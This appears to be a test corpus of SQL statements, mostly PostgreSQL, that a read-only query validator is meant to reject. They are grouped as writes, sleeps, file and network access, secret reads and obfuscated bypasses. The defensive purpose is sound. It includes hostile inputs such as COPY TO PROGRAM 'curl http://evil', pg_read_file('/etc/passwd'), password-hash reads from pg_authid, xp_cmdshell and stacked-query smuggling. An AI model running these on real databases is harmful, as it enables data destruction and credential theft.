## writes
INSERT INTO users (id) VALUES (1)
INSERT INTO users SELECT * FROM users
UPDATE users SET name = 'x'
DELETE FROM users WHERE id = 1
MERGE INTO users u USING orders o ON u.id = o.user_id WHEN MATCHED THEN DELETE
TRUNCATE users
DROP TABLE users
CREATE TABLE x (a int)
CREATE TEMP TABLE x AS SELECT * FROM users
CREATE TABLE x AS TABLE users
ALTER TABLE users ADD COLUMN x int
SELECT * INTO copy FROM users
SELECT id INTO TEMP copy FROM users
SELECT 1 INTO UNLOGGED copy
WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO users (id) VALUES (1) RETURNING id) SELECT id FROM x
WITH x AS (UPDATE users SET name = 'x' RETURNING id) SELECT count(*) FROM x
WITH a AS (SELECT 1), x AS (UPDATE users SET name = 'x') SELECT 1
WITH x AS (WITH y AS (DELETE FROM users RETURNING id) SELECT * FROM y) SELECT * FROM x
WITH x AS MATERIALIZED (DELETE FROM users RETURNING *) TABLE x
WITH x AS (SELECT 1) DELETE FROM users
WITH x AS (SELECT 1) INSERT INTO users (id) SELECT 1
SELECT 1; DELETE FROM users
SELECT 1; COMMIT; DELETE FROM users
SELECT 1;;DELETE FROM users
SELECT 1 /* */; /* */ DROP TABLE users
CREATE VIEW v AS SELECT 1
CREATE INDEX i ON users (name)
COMMENT ON TABLE users IS 'x'
REFRESH MATERIALIZED VIEW sales
CREATE SEQUENCE s
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ DELETE FROM users; SELECT 1 $$
CREATE TRIGGER t AFTER INSERT ON users EXECUTE FUNCTION f()
CREATE EXTENSION dblink
CREATE ROLE bob LOGIN PASSWORD 'x'
CREATE USER bob
ALTER ROLE postgres PASSWORD 'x'
ALTER SYSTEM SET work_mem = '1GB'
ALTER DATABASE postgres SET search_path = 'x'
GRANT ALL ON users TO PUBLIC
REVOKE ALL ON users FROM PUBLIC
DROP OWNED BY bob
REASSIGN OWNED BY a TO b
SECURITY LABEL ON TABLE users IS 'x'
IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z
COPY users FROM '/etc/passwd'
COPY users TO '/tmp/x'
COPY users TO PROGRAM 'curl x'
COPY (SELECT 1) TO STDOUT
COPY users TO STDOUT
## session, transactions, locks
BEGIN
COMMIT
ROLLBACK
START TRANSACTION
SAVEPOINT a
RELEASE SAVEPOINT a
ROLLBACK TO SAVEPOINT a
END
ABORT
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
SET search_path = evil
SET LOCAL statement_timeout = 0
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
SET TRANSACTION READ WRITE
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
RESET ALL
RESET ROLE
DISCARD ALL
LISTEN x
NOTIFY x, 'y'
UNLISTEN *
LOCK TABLE users
LOCK users IN ACCESS EXCLUSIVE MODE
PREPARE p AS SELECT 1
EXECUTE p
DEALLOCATE p
DECLARE c CURSOR FOR SELECT 1
FETCH 1 FROM c
MOVE c
CLOSE c
CALL p()
DO $$ BEGIN DELETE FROM users; END $$
DO LANGUAGE plpgsql $$ BEGIN NULL; END $$
VACUUM
VACUUM FULL users
ANALYZE
ANALYZE users
ANALYSE users
CHECKPOINT
CLUSTER users
REINDEX TABLE users
LOAD 'x'
SHOW ALL
SHOW hba_file
SHOW app.secret
SELECT * FROM users FOR UPDATE
SELECT * FROM users FOR NO KEY UPDATE
SELECT * FROM users FOR SHARE
SELECT * FROM users FOR KEY SHARE SKIP LOCKED
SELECT * FROM users FOR UPDATE OF users NOWAIT
SELECT * FROM (SELECT * FROM users FOR UPDATE) x
WITH a AS (SELECT * FROM users FOR SHARE) SELECT * FROM a
SELECT (SELECT id FROM users LIMIT 1 FOR UPDATE)
SELECT * FROM users u, LATERAL (SELECT 1 FROM orders FOR UPDATE) x
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_lock(1)
SELECT pg_advisory_xact_lock(1, 2)
SELECT pg_advisory_unlock_all()
SELECT set_config('default_transaction_read_only', 'off', false)
SELECT pg_catalog.set_config('x', 'y', true)
SELECT setseed(0.5)
SELECT nextval('s')
SELECT setval('s', 1)
SELECT currval('s'), lastval()
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT pg_notify('a', 'b')
SELECT pg_export_snapshot()
EXPLAIN DELETE FROM users
EXPLAIN ANALYZE DELETE FROM users
EXPLAIN (ANALYZE) DELETE FROM users
EXPLAIN (ANALYZE true) UPDATE users SET name = 'x'
EXPLAIN ANALYZE WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x
EXPLAIN ANALYZE SELECT pg_sleep(10)
EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1
EXPLAIN ANALYZE EXECUTE p
EXPLAIN (FORMAT JSON, ANALYZE) INSERT INTO users VALUES (1)
## sleeping and killing
SELECT pg_sleep(10)
SELECT pg_sleep_for('5 minutes')
SELECT pg_sleep_until('tomorrow')
SELECT PG_SLEEP (10)
SELECT "pg_sleep"(10)
SELECT pg_catalog.pg_sleep(10)
SELECT pg_catalog . "pg_sleep" (10)
SELECT pg_sleep/**/(10)
SELECT count(*) FROM pg_sleep(10)
SELECT * FROM users, pg_sleep(10)
SELECT * FROM users CROSS JOIN LATERAL pg_sleep(1) x
SELECT * FROM users JOIN LATERAL (SELECT pg_sleep(1)) x ON true
SELECT * FROM ROWS FROM (pg_sleep(1), generate_series(1, 2)) t
SELECT 1 FROM users WHERE pg_sleep(1) IS NULL
SELECT 1 ORDER BY pg_sleep(1)
SELECT 1 LIMIT (SELECT 1 FROM pg_sleep(1))
SELECT 1 OFFSET length(pg_sleep(1)::text)
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM users
SELECT sum(1) OVER (ORDER BY pg_sleep(1))
SELECT sum(1) OVER w FROM users WINDOW w AS (PARTITION BY pg_sleep(1)::text)
SELECT count(*) FROM users GROUP BY pg_sleep(1)::text
SELECT count(*) FROM users HAVING pg_sleep(1) IS NULL
SELECT DISTINCT ON (pg_sleep(1)::text) id FROM users
SELECT CASE WHEN true THEN pg_sleep(1) END
SELECT COALESCE(pg_sleep(1)::text, 'x')
SELECT ARRAY[pg_sleep(1)::text]
SELECT ROW(pg_sleep(1))
SELECT (ARRAY(SELECT pg_sleep(1)))[1]
VALUES (pg_sleep(1))
SELECT * FROM (VALUES (pg_sleep(1))) x
SELECT id FROM users WHERE id IN (SELECT 1 FROM pg_sleep(1))
SELECT 1 UNION SELECT length(pg_sleep(1)::text)
SELECT string_agg(name, pg_sleep(1)::text ORDER BY pg_sleep(1)::text) FROM users
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY length(pg_sleep(1)::text)) FROM users
SELECT jsonb_build_object('a', pg_sleep(1)::text)
SELECT tags[length(pg_sleep(1)::text)] FROM users
SELECT tags[1:length(pg_sleep(1)::text)] FROM users
SELECT id FROM users TABLESAMPLE SYSTEM (length(pg_sleep(1)::text))
WITH pg_sleep(a) AS (SELECT 1) SELECT pg_sleep(10)
SELECT 1 FROM users pg_sleep(a, b) WHERE pg_sleep(5) IS NULL
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_promote()
SELECT pg_switch_wal()
SELECT pg_create_restore_point('x')
SELECT pg_stat_reset()
SELECT pg_log_backend_memory_contexts(1)
SELECT pg_logical_emit_message(true, 'a', 'b')
SELECT pg_create_physical_replication_slot('x')
SELECT pg_drop_replication_slot('x')
SELECT pg_logical_slot_get_changes('x', NULL, NULL)
SELECT pg_replication_origin_create('x')
SELECT pg_import_system_collations('x')
SELECT brin_summarize_new_values('x')
SELECT gin_clean_pending_list('x')
## files, network, large objects
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT * FROM pg_ls_dir('.')
SELECT * FROM pg_ls_logdir()
SELECT pg_ls_waldir()
SELECT pg_stat_file('x')
SELECT pg_current_logfile()
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_create(0)
SELECT lo_creat(-1)
SELECT lo_unlink(1)
SELECT lo_from_bytea(0, 'x')
SELECT lo_put(1, 0, 'x')
SELECT lo_get(1)
SELECT loread(1, 2), lowrite(1, 'x')
SELECT dblink('host=x', 'DELETE FROM users')
SELECT * FROM dblink('dbname=x', 'SELECT 1') AS t(a int)
SELECT dblink_exec('x'), dblink_connect('x')
SELECT pg_file_write('a', 'b', false)
SELECT pg_execute_server_program('x')
SELECT query_to_xml('DELETE FROM users', true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT table_to_xml('pg_authid', true, false, '')
SELECT schema_to_xml('public', true, false, '')
SELECT database_to_xml(true, false, '')
SELECT query_to_xmlschema('SELECT 1', true, true, '')
SELECT ts_stat('SELECT pg_sleep(1)')
SELECT * FROM ts_stat('SELECT search FROM products')
SELECT ts_rewrite('a'::tsquery, 'SELECT 1')
SELECT * FROM crosstab('SELECT 1') AS t(a int)
SELECT xml_is_well_formed(pg_read_file('x'))
SELECT unknown_function(1)
SELECT public.lower('x')
SELECT evil.count(*) FROM users
SELECT myschema.myfunction(id) FROM users
SELECT 1 OPERATOR(evil.+) 2
SELECT 1 OPERATOR(public.+) 2
SELECT a OPERATOR(public.@>) b FROM t
SELECT lower(wipe(name)) FROM users
## secrets
SELECT * FROM pg_authid
SELECT rolpassword FROM pg_catalog.pg_authid
SELECT passwd FROM pg_shadow
SELECT * FROM "pg_shadow"
SELECT * FROM pg_user_mapping
SELECT * FROM pg_user_mappings
SELECT * FROM information_schema.user_mapping_options
SELECT * FROM information_schema._pg_user_mappings
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_ident_file_mappings
SELECT * FROM pg_file_settings
SELECT * FROM pg_statistic
SELECT most_common_vals FROM pg_stats
SELECT * FROM pg_stats_ext
SELECT * FROM pg_stats_ext_exprs
SELECT * FROM pg_statistic_ext_data
SELECT pg_mcv_list_items(stxdmcv) FROM pg_statistic_ext_data
SELECT * FROM pg_largeobject
SELECT subconninfo FROM pg_subscription
TABLE pg_authid
SELECT 1 WHERE EXISTS (SELECT 1 FROM pg_shadow WHERE usename = 'x')
WITH a AS (TABLE pg_shadow) SELECT * FROM a
WITH pg_shadow AS (SELECT * FROM pg_shadow) SELECT * FROM pg_shadow
EXPLAIN ANALYZE SELECT * FROM pg_shadow
SELECT * FROM pg_stat_wal_receiver
SELECT * FROM pg_config
SELECT pg_show_all_file_settings()
SELECT current_setting('app.jwt_secret')
SELECT current_setting('primary_conninfo')
SELECT current_setting(name) FROM pg_settings
SELECT current_setting('server_version' || name) FROM users
SELECT pg_options_to_table(umoptions) FROM pg_user_mapping
SELECT * FROM pg_toast.pg_toast_2619
## hidden by spelling
SELECT U&"\0070g_sleep"(1)
SELECT U&'\0061'
SELECT U & "x"(1)
SELECT '\' , pg_sleep(1) --'
SELECT E'\' , pg_sleep(1) --
SELECT $$ , pg_sleep(1) $$, pg_sleep(1)
SELECT $a$ $a$ || pg_sleep(1)::text || $a$ $a$
SELECT a$b$ , pg_sleep(1), c$b$
SELECT 1 /* /* */ , pg_sleep(1) */ */, pg_sleep(1)
SELECT 'unterminated
SELECT "unterminated
SELECT /* unterminated
SELECT (1
SELECT 1)
FROM users
users
;
SELEC 1
SELECT FROM WHERE
SELECT 1 SELECT 2
HELP
\d users
SELECT 1 \g
SELECT (users).wipe() FROM users
## found by attacking it
SELECT "Lower"('x')
SELECT "PG_CATALOG".lower('x')
SELECT a[1:pg_sleep(1)] FROM t
SELECT lower(current_setting('app.x'))
SELECT current_setting(E'app.secret')
WITH evil(a) AS (SELECT 1), b AS (SELECT evil (1)) SELECT 1
SELECT 1 FROM users AS evil (a, b), evil (5) AS x
SELECT (u).wipe FROM users u
SELECT 1 FROM t TABLESAMPLE evil_method(1)
SELECT * FROM mydb.pg_catalog.pg_authid
SELECT 1 AS x FROM pg_shadow AS t(pg_shadow)
EXPLAIN ANALYSE DELETE FROM users
SELECT * REPLACE (pg_sleep(1) AS a) FROM t
SELECT string(1), vector(2), number(3)
SELECT extract(year FROM pg_sleep(1))
SELECT ıN(1)
VALUES (1) FOR UPDATE
SELECT 1 INTO/**/x
SELECT decimal(decimal(decimal(decimal(decimal(decimal(decimal(decimal(decimal(1)))))))))
## Calls by field selection
SELECT (0.1).pg_sleep
SELECT (10::float8).pg_sleep
SELECT (t.x).pg_sleep FROM (SELECT 5::float8 AS x) t
SELECT ('s'::regclass).nextval
SELECT (x).nextval FROM (SELECT 's'::regclass AS x) t
SELECT (f.x).nextval FROM (SELECT 's'::regclass as x) f
SELECT g.lo_unlink FROM generate_series(1,1) g
SELECT g.nextval FROM cast('s' AS regclass) g
SELECT x.pg_sleep FROM unnest(ARRAY[0.1]::float8[]) x
SELECT ('/etc/passwd'::text).pg_read_file
SELECT x.pg_read_file FROM unnest(ARRAY['/etc/passwd']) x
SELECT x.pg_ls_dir FROM unnest(ARRAY['/']) AS x
SELECT ('http://evil'::text).http_get
SELECT (SELECT 5::float8).pg_sleep
SELECT (coalesce(5.0::float8)).pg_sleep
SELECT ((5.0)).pg_sleep
SELECT (ARRAY[5.0]::float8[])[1].pg_sleep
SELECT ((ARRAY[5.0]::float8[])[1]).pg_sleep
SELECT (data).lo_import FROM t
SELECT * FROM t WHERE (id).pg_terminate_backend
SELECT * FROM t ORDER BY (id).pg_cancel_backend
SELECT ("id")."pg_sleep" FROM t
SELECT (1).evil
SELECT (now()).evil
SELECT ('a' || 'b').evil
SELECT (1 + 1).evil
SELECT g.evil FROM generate_series(1, 2) g
SELECT g.evil FROM generate_series(1, 2) AS g(n)
SELECT x.evil FROM unnest(ARRAY[1]) x
SELECT l.evil FROM t, LATERAL abs(t.a) l
SELECT l.lo_unlink FROM t CROSS JOIN LATERAL unnest(t.ids) l
SELECT (x).* FROM (SELECT (5.0).pg_sleep) x
SELECT d.pg_sleep FROM current_date d
SELECT j.evil FROM jsonb_array_elements('[]') j
SELECT (row(1)).pg_sleep
SELECT r.pg_sleep FROM ROWS FROM (abs(5)) r
SELECT (SELECT g.evil) FROM generate_series(1, 2) g
## A second opinion
DELETE FROM users
delete from users where 1=1
UPDATE users SET role='admin' WHERE id=5
INSERT INTO users (name) VALUES ('x')
INSERT INTO a SELECT * FROM b
INSERT INTO t DEFAULT VALUES
DROP TABLE IF EXISTS users
DROP VIEW v
DROP INDEX i
TRUNCATE TABLE users
ALTER TABLE users ADD COLUMN x INT
ALTER TABLE users DROP COLUMN x
ALTER TABLE users RENAME TO u2
CREATE TABLE x (id INT)
CREATE TABLE x AS SELECT * FROM users
CREATE TEMPORARY TABLE x AS SELECT 1
CREATE INDEX i ON t (a)
CREATE UNIQUE INDEX i ON t (a)
CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM x; END
SELECT 1; DROP TABLE users
SELECT 1; DELETE FROM users; --
SELECT 1;\tDELETE FROM users
;DELETE FROM users
SELECT 1; SELECT 2
SELECT 1 /* x */; /* y */ UPDATE t SET a = 1
BEGIN; DELETE FROM t; COMMIT
COMMIT; DELETE FROM t
SAVEPOINT s
RELEASE SAVEPOINT s
EXPLAIN ANALYZE UPDATE users SET a = 1
EXPLAIN INSERT INTO t VALUES (1)
GRANT ALL ON users TO public
GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'
REVOKE SELECT ON users FROM bob
CREATE USER x
CREATE ROLE x SUPERUSER
DROP USER x
ALTER USER postgres PASSWORD 'x'
CREATE DATABASE x
DROP DATABASE x
CREATE SCHEMA x
DROP SCHEMA public CASCADE
SET x = 1
SET ROLE admin
WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x
WITH x AS (SELECT 1) UPDATE t SET a = 1
WITH RECURSIVE c AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM c)
REPLACE INTO t VALUES (1)
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
REINDEX
REINDEX TABLE t
/* c */ DELETE FROM users
/**/DELETE/**/FROM/**/users
(DELETE FROM users)
DE/**/LETE FROM users
SELECT 1 UNION DELETE FROM users
SELECT * FROM (DELETE FROM users RETURNING *) x
SELECT * FROM users WHERE id = (DELETE FROM users RETURNING id)
DELETE FROM users RETURNING *
UPDATE t SET a = 1 RETURNING *
INSERT INTO t VALUES (1) RETURNING *
INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING
dElEtE fRoM users
CALL proc()
EXECUTE stmt
PREPARE s AS DELETE FROM t
DEALLOCATE s
LOCK TABLE t
USE mysql
KILL 1
SHUTDOWN
COPY t TO '/tmp/x'
LOAD DATA INFILE '/etc/passwd' INTO TABLE t
EXEC xp_cmdshell 'dir'
DECLARE x INT
DO 1
HANDLER t OPEN
COMMENT ON TABLE t IS 'x'
RENAME TABLE a TO b
SELECT * INTO newt FROM users
SELECT a INTO b FROM c
ATTACH DATABASE 'x' AS y
DETACH DATABASE y
SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED
SELECT * FROM users FOR KEY SHARE NOWAIT
WITH a AS (SELECT * FROM t FOR UPDATE) SELECT * FROM a
SELECT EXISTS (SELECT 1 FROM t FOR UPDATE)
WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
WITH i AS (INSERT INTO t VALUES (1) RETURNING *), x AS (SELECT 1) SELECT * FROM x
WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT count(*) FROM u
SELECT * FROM (WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d) x
EXPLAIN ANALYZE WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
EXPLAIN (ANALYZE) DELETE FROM t
EXPLAIN (ANALYZE true, FORMAT json) INSERT INTO t VALUES (1)
EXPLAIN EXECUTE s
EXPLAIN ANALYZE SELECT * INTO x FROM t
EXPLAIN (ANALYZE) SELECT pg_sleep(10)
EXPLAIN DECLARE c CURSOR FOR SELECT 1
SELECT * INTO TEMP t2 FROM t
SELECT * INTO UNLOGGED TABLE t2 FROM t
SELECT 1 INTO x
WITH a AS (SELECT 1) SELECT * INTO b FROM a
CREATE TABLE IF NOT EXISTS x AS TABLE t
CREATE MATERIALIZED VIEW m AS SELECT 1
REFRESH MATERIALIZED VIEW m
CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'delete from t returning 1'
DO $$ BEGIN DELETE FROM t; END $$
DO LANGUAGE plpgsql $x$ BEGIN PERFORM pg_sleep(10); END $x$
COPY users TO '/tmp/x.csv'
COPY users FROM '/tmp/x.csv'
COPY (SELECT * FROM users) TO PROGRAM 'curl http://evil'
COPY t FROM PROGRAM 'id'
COPY (DELETE FROM t RETURNING *) TO STDOUT
LISTEN ch
NOTIFY ch, 'x'
SET search_path TO evil
SET statement_timeout TO 0
SET TIME ZONE 'UTC'
SET CONSTRAINTS ALL DEFERRED
BEGIN READ WRITE
LOCK TABLE users IN ACCESS EXCLUSIVE MODE
DECLARE c CURSOR FOR SELECT * FROM t
FETCH ALL FROM c
CLUSTER t
VACUUM FULL t
ANALYZE VERBOSE t
REINDEX INDEX i
DROP OWNED BY a
SECURITY LABEL ON TABLE t IS 'x'
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM x
ALTER SYSTEM SET x = 1
ALTER ROLE x SET search_path = y
ALTER TABLE t DISABLE TRIGGER ALL
CREATE PUBLICATION p FOR ALL TABLES
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
LOAD 'evil.so'
SELECT rolname, rolpassword FROM pg_authid
SELECT usename, passwd FROM pg_shadow
SELECT passwd FROM pg_catalog.pg_shadow
SELECT * FROM "pg_authid"
SELECT * FROM pg_catalog."pg_authid"
SELECT (SELECT rolpassword FROM pg_authid LIMIT 1)
SELECT a FROM pg_authid AS t(a)
SELECT umoptions FROM pg_catalog.pg_user_mappings
SELECT * FROM pg_stats
SELECT most_common_vals FROM pg_catalog.pg_stats WHERE tablename = 'users'
SELECT stavalues1 FROM pg_statistic
SELECT srvoptions FROM pg_foreign_server
SELECT * FROM information_schema.foreign_server_options
SELECT pg_authid FROM pg_authid
SELECT * FROM ONLY pg_authid
SELECT * FROM pg_authid*
SELECT p.* FROM pg_class c, LATERAL (SELECT * FROM pg_authid) p
SELECT 'pg_authid'::regclass, (xpath('//x', table_to_xml('pg_authid', true, false, '')))
SELECT table_to_xml('users', true, false, '')
SELECT query_to_xml('delete from t returning 1', true, false, '')
SELECT cursor_to_xml('c', 1, true, false, '')
SELECT query_to_xml_and_xmlschema('select 1', true, false, '')
SELECT * FROM ts_stat('delete from t')
SELECT ts_rewrite('a'::tsquery, 'select 1')
SELECT U&"\0070g_sleep"(10)
SELECT U&"!0070g_sleep" UESCAPE '!' (10)
SELECT pg_catalog."pg_sleep"(10)
SELECT pg_catalog . pg_sleep /* */ (10)
SELECT Pg_SlEeP(10)
SELECT (5).pg_sleep
SELECT x.pg_sleep FROM pg_sleep(5) x
SELECT t.lo_unlink FROM (SELECT 5::oid) t
SELECT f.nextval FROM (SELECT 's'::regclass) f
SELECT u.to_jsonb, u.set_config FROM users u
SELECT evil()
SELECT public.evil()
SELECT * FROM public.evil(1)
SELECT a FROM t WHERE public.evil(a)
CREATE TYPE x AS (a int)
CREATE DOMAIN d AS int CHECK (pg_sleep(1) IS NULL)
CREATE CAST (int AS text) WITH FUNCTION f(int)
SELECT count(*) FROM generate_series(1, 10), pg_sleep(1)
SELECT sum(pg_sleep(1)::text::int) OVER () FROM t
SELECT * FROM t ORDER BY pg_sleep(1)
SELECT * FROM t GROUP BY pg_sleep(1)
SELECT * FROM t LIMIT (SELECT 1 FROM pg_sleep(5))
SELECT * FROM t OFFSET (SELECT 1 FROM pg_sleep(5))
SELECT * FROM t FETCH FIRST (SELECT nextval('s')) ROWS ONLY
SELECT * FROM t TABLESAMPLE BERNOULLI (nextval('s'))
SELECT * FROM t TABLESAMPLE SYSTEM (50) REPEATABLE (nextval('s'))
SELECT percentile_cont(nextval('s')) WITHIN GROUP (ORDER BY a) FROM t
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nextval('s')) FROM t
SELECT array_agg(a ORDER BY nextval('s')) FROM t
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t
SELECT sum(a) OVER (PARTITION BY nextval('s')) FROM t
SELECT sum(a) OVER w FROM t WINDOW w AS (ORDER BY nextval('s'))
SELECT sum(a) OVER (ORDER BY b ROWS nextval('s') PRECEDING) FROM t
SELECT ARRAY[nextval('s')], (ARRAY[1])[nextval('s')], ROW(nextval('s'))
SELECT CASE WHEN true THEN nextval('s') END
SELECT CAST(nextval('s') AS text)
SELECT a FROM t JOIN u ON nextval('s') > 0
VALUES (nextval('s'))
SELECT DISTINCT ON (nextval('s')) a FROM t
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(1)) x
SELECT * FROM XMLTABLE('/a' PASSING query_to_xml('x', true, true, '') COLUMNS a int PATH 'a')
SELECT * FROM XMLTABLE('/a' PASSING x COLUMNS a int PATH 'a' DEFAULT nextval('s'))
SELECT interval '1' * nextval('s')
SELECT extract(epoch FROM now()) + nextval('s')
SELECT xmlelement(name a, xmlattributes(nextval('s') AS b))
SELECT xmlforest(nextval('s') AS a)
SELECT * FROM t GROUP BY ROLLUP (nextval('s'))
SELECT COALESCE(1, nextval('s')), GREATEST(nextval('s'), 1), NULLIF(nextval('s'), 1)
SELECT substring('abc' FROM nextval('s')::int), overlay('abc' PLACING 'x' FROM nextval('s')::int), position('x' IN nextval('s')::text), trim(nextval('s')::text FROM 'x')
SELECT now() AT TIME ZONE nextval('s')::text
SELECT 'a' LIKE 'b' ESCAPE nextval('s')::text
SELECT a COLLATE "C" FROM t ORDER BY nextval('s') USING <
SELECT nextval('s') BETWEEN 1 AND 2, 1 IN (nextval('s')), 1 = ANY(ARRAY[nextval('s')])
SELECT jsonb_path_query('{}', '$', vars => nextval('s')::text::jsonb)
SELECT make_interval(days => nextval('s')::int)
SELECT concat(VARIADIC ARRAY[nextval('s')::text])
SELECT dblink('host=evil', 'select 1')
SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
SELECT dblink_exec('dbname=x', 'delete from t')
SELECT dblink_connect('x')
SELECT lastval()
SELECT set_config('role', 'postgres', false)
SELECT pg_advisory_xact_lock(1)
SELECT pg_terminate_backend(1)
SELECT * FROM pg_ls_waldir()
SELECT loread(lo_open(1, 262144), 100)
SELECT pg_sleep(1)
SELECT pg_sleep_for('1 minute')
SELECT pg_create_logical_replication_slot('a', 'b')
SELECT pg_drop_replication_slot('a')
SELECT pg_logical_slot_get_changes('a', null, null)
SELECT pg_stat_reset_shared('bgwriter')
SELECT pg_stat_statements_reset()
SELECT pg_wal_replay_pause()
SELECT pg_backup_start('x')
SELECT pg_start_backup('x')
SELECT pg_nextoid('pg_class', 'oid', 'i')
SELECT setseed(0.1)
SELECT gin_clean_pending_list('i')
SELECT brin_summarize_new_values('i')
SELECT pg_extension_config_dump('x', '')
SELECT binary_upgrade_set_next_pg_type_oid(1)
SELECT pg_prewarm('t')
SELECT pg_file_write('x', 'y', false)
SELECT adminpack.pg_file_unlink('x')
SELECT crosstab('delete from t')
SELECT * FROM connectby('t', 'a', 'b', 'c', 0) AS t(a int)
SELECT plpgsql_call_handler()
SELECT has_table_privilege('x', 'y', nextval('s')::text)
SELECT get_raw_page('t', 0)
SELECT * FROM heap_page_items(get_raw_page('t', 0))
SELECT pgp_sym_decrypt(a, 'k') FROM t
SELECT http_get('http://evil')
SELECT net.http_post('http://evil')
SELECT * FROM postgres_fdw_get_connections()
SELECT postgres_fdw_disconnect_all()
SELECT cron.schedule('* * * * *', 'delete from t')
SELECT amcheck.bt_index_check('i')
SELECT pg_notification_queue_usage(), lo_creat(-1)
SELECT currval('s'), nextval('s')
SELECT pg_get_viewdef(nextval('s')::oid)
SHOW hba_file; DELETE FROM t
SHOW is_superuser; SELECT 1
SELECT $$a$$; DELETE FROM t WHERE b = $$c$$
SELECT 'a\'; DELETE FROM t; --'
SELECT E'a\'b'; DELETE FROM t; --'
SELECT /* /* nested */ */ 1; DELETE FROM t
SELECT 1 /* /* */ ; DELETE FROM t -- */ */ ; DELETE FROM t
SELECT $a$ $b$ $a$; DELETE FROM t; --$b$
SELECT pg_stat_get_activity(null), pg_show_all_file_settings()
SELECT pg_hba_file_rules()
SELECT * FROM pg_get_publication_tables('x'), pg_stat_get_wal_receiver(), pg_read_server_files('x')
SELECT current_setting('x'), set_config('x', 'y', true)
SELECT pg_partition_root('x'), pg_relation_filenode('x'), pg_truncate_visibility_map('x')
SELECT pg_rotate_logfile_v2(), pg_copy_physical_replication_slot('a', 'b')
SELECT pg_stat_clear_snapshot(), pg_stat_force_next_flush()
SELECT pg_current_wal_insert_lsn(), pg_stat_reset_slru('x')
SELECT * FROM t WHERE current_user = (SELECT usename FROM pg_shadow LIMIT 1)
SELECT * FROM t WHERE x = pg_read_file($1)
MERGE INTO t USING s ON t.a = s.a WHEN NOT MATCHED THEN INSERT VALUES (1)
VALUES (1) UNION ALL SELECT pg_sleep(10)::text::int
SELECT pg_get_expr('x', 0), lo_truncate(1, 1)
SELECT getpgusername(), pg_read_file('x', 0, 1)
SELECT convert_from(pg_read_binary_file('x'), 'UTF8')
SELECT * FROM pg_logdir_ls() AS x(a timestamp, b text)
SELECT * FROM pg_stat_statements, pg_shadow
SELECT inet_client_addr(), dblink_get_pkey('x')
ALTER TABLE users ENABLE ROW LEVEL SECURITY
DROP FUNCTION f
DROP POLICY p ON t
CREATE POLICY p ON t USING (true)
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO x
ALTER DATABASE x SET y = z
CREATE TABLESPACE x LOCATION '/tmp'
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
CREATE AGGREGATE a(int) (sfunc = f, stype = int)
CREATE OPERATOR + (procedure = f)
CREATE LANGUAGE plpython3u
SELECT a OPERATOR(public.+) b FROM t
SELECT a OPERATOR("pg_catalog".+) pg_sleep(1) FROM t
SELECT a OPERATOR(pg_catalog.+) pg_sleep(1) FROM t
SELECT a <<= pg_sleep(1)::text::inet FROM t
SELECT @-@ pg_sleep(1)::text::path
SELECT json_object(pg_read_file('x')::text[])
SELECT xmlparse(content pg_read_file('x'))
SELECT xmlserialize(content query_to_xml('x', true, true, '') AS text)
SELECT a FROM t JOIN u USING (id) AS pg_sleep(5)
SELECT xmlexists('//a' PASSING BY REF query_to_xml('x', true, true, ''))
SELECT xmlroot(query_to_xml('x', true, true, ''), version pg_read_file('x'))
SELECT f(data->pg_read_file('x')) FROM t
SELECT jsonb_typeof(data->pg_read_file('x')) FROM t
SELECT jsonb_typeof(rolpassword->'x') FROM pg_authid
SELECT box 'x'; DELETE FROM t
SELECT 1 <@ pg_sleep(1)
SELECT pg_sleep 'x'
SELECT regclass 'pg_authid', (xpath('x', y))[1] FROM pg_shadow
SELECT $1.pg_sleep
SELECT ($1).pg_sleep
SELECT ($1::float8).evil
SELECT a.arr[1].pg_sleep FROM a
SELECT t.x.pg_sleep FROM t
SELECT 1 LIMIT 5 % (SELECT nextval('s'))
SELECT @ nextval('s')
